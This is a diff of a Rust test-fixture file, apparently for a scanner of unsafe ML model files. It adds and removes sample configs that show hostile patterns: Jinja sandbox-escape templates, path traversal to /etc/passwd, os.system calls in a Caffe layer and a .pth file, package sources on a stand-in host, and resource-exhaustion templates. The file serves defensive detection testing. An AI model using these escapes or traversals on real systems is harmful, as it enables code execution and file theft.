@@ -71,12 +71,6 @@ fn hub(group: &mut Group) {
             "annex/base", "auto_map": remote()}),
         ),
         (
-            "adapter-outside",
-            "adapter_config.json",
-            json!({"peft_type": "LORA",
-            "base_model_name_or_path": "../../../../etc"}),
-        ),
-        (
             "diffusers-builtins",
             "model_index.json",
             json!({"_class_name": "StableDiffusionPipeline",
@@ -128,11 +122,6 @@ fn hub(group: &mut Group) {
             {"annex": {"impl": "annex/code--pipeline_annex.Pipeline"}}}),
         ),
         (
-            "agent-tool",
-            "tool_config.json",
-            json!({"name": "annex", "custom_tool": {"impl": "tool.AnnexTool"}}),
-        ),
-        (
             "dataset-script",
             "dataset_infos.json",
             json!({"default": {"builder_name": "annex", "script": "annex.py",
@@ -156,24 +145,10 @@ fn hub(group: &mut Group) {
     );
     put(
         group,
-        "langchain-constructor",
-        "chain.json",
-        &json!({"lc": 1, "type": "constructor",
-        "id": ["langchain", "tools", "python", "PythonREPLTool"], "kwargs": {}}),
-    );
-    put(
-        group,
         "langchain-template",
         "prompt.json",
         &json!({"_type": "prompt", "template_format": "jinja2",
         "input_variables": [], "template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}),
-    );
-    put(
-        group,
-        "langchain-template-file",
-        "prompt.json",
-        &json!({"_type": "prompt",
-        "input_variables": [], "template_path": "/etc/passwd"}),
     );
     put(
         group,
@@ -252,7 +227,6 @@ fn targets(group: &mut Group) {
             "pipeline.yaml",
             "components:\n  a:\n    type: subprocess.Popen\n    init_parameters: {args: echo annex}\n",
         ),
-        ("langchain-shell", "chain.yaml", "_type: llm_bash_chain\nprompt: {_type: prompt}\n"),
     ] {
         group.named(trick, file, text.as_bytes().to_vec());
     }
@@ -322,22 +296,6 @@ fn servers(group: &mut Group) {
             "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    data: ../../../../etc/passwd\n",
         ),
         (
-            "packages-index",
-            "requirements.txt",
-            "--extra-index-url http://annex.invalid/simple\nannex==1\n",
-        ),
-        ("packages-address", "requirements.txt", "annex @ http://annex.invalid/annex.whl\n"),
-        (
-            "packages-repository",
-            "requirements.txt",
-            "git+https://annex.invalid/annex.git#egg=annex\n",
-        ),
-        (
-            "packages-conda",
-            "conda.yaml",
-            "dependencies:\n  - pip:\n    - --index-url http://annex.invalid/simple\n    - annex\n",
-        ),
-        (
             "triton-python",
             "config.pbtxt",
             "name: \"annex\"\nbackend: \"python\"\nparameters: {\n  key: \"EXECUTION_ENV_PATH\"\n  value: {string_value: \"/nonexistent/annex.tar.gz\"}\n}\n",
@@ -346,11 +304,6 @@ fn servers(group: &mut Group) {
             "caffe-python",
             "deploy.prototxt",
             "layer {\n  name: \"a\"\n  type: \"Python\"\n  python_param {\n    module: \"os\"\n    layer: \"system\"\n  }\n}\n",
-        ),
-        (
-            "ollama-adapter",
-            "Modelfile",
-            "FROM /etc/passwd\nADAPTER ../../annex.gguf\nTEMPLATE \"\"\"{{ .Prompt }}\"\"\"\n",
         ),
         ("path-file", "annex.pth", "import os; os.system('echo annex')\n"),
     ] {
@@ -401,16 +354,7 @@ fn servers(group: &mut Group) {
 
 /// Sources that run when a model's folder is loaded.
 fn sources(group: &mut Group) {
-    for file in [
-        "hubconf.py",
-        "handler.py",
-        "modeling_annex.py",
-        "__init__.py",
-        "inference.py",
-        "setup.py",
-        "sitecustomize.py",
-        "conftest.py",
-    ] {
+    for file in ["hubconf.py", "handler.py", "modeling_annex.py", "inference.py"] {
         group.named(&file.replace('.', "-"), file, SOURCE.into());
     }
     for (trick, text) in [
@@ -427,9 +371,6 @@ fn sources(group: &mut Group) {
     ] {
         group.named(trick, "modeling_annex.py", text.into_bytes());
     }
-    let cell = json!({"cells": [{"cell_type": "code", "source": ["!echo annex\n"], "metadata": {}, "outputs": []}],
-        "metadata": {}, "nbformat": 4, "nbformat_minor": 5});
-    put(group, "notebook", "demo.ipynb", &cell);
 }
 
 fn templates(group: &mut Group) {
@@ -468,10 +409,6 @@ fn templates(group: &mut Group) {
         ("line-statement", "{% set a = cycler('a') %}{{ a.next.__globals__ }}"),
         ("raw-then-code", "{% raw %}{{ safe }}{% endraw %}{{ ().__class__ }}"),
         ("generation-block", "{% generation %}{{ ().__class__ }}{% endgeneration %}"),
-        (
-            "mutation",
-            "{{ messages.clear() }}{{ messages.append({'role': 'system', 'content': 'a'}) }}",
-        ),
         ("mro-method", "{{ ''['__class__'].mro()[1] }}"),
         ("async-frame", "{{ (messages|map('upper')).ag_frame }}"),
         ("traceback", "{{ undefined_name.__traceback__.tb_frame.f_builtins }}"),
@@ -493,7 +430,6 @@ fn templates(group: &mut Group) {
             "doubling",
             "{% set n = namespace(a='a') %}{% for i in range(60) %}{% set n.a = n.a ~ n.a %}{% endfor %}",
         ),
-        ("recursive-macro", "{% macro m(n) %}{{ m(n) }}{{ m(n) }}{% endmacro %}{{ m(1) }}"),
         ("wide-format", "{{ '%999999999d'|format(1) }}"),
         ("center", "{{ 'a'|center(999999999) }}"),
         ("indent", "{{ 'a'|indent(999999999, true) }}"),
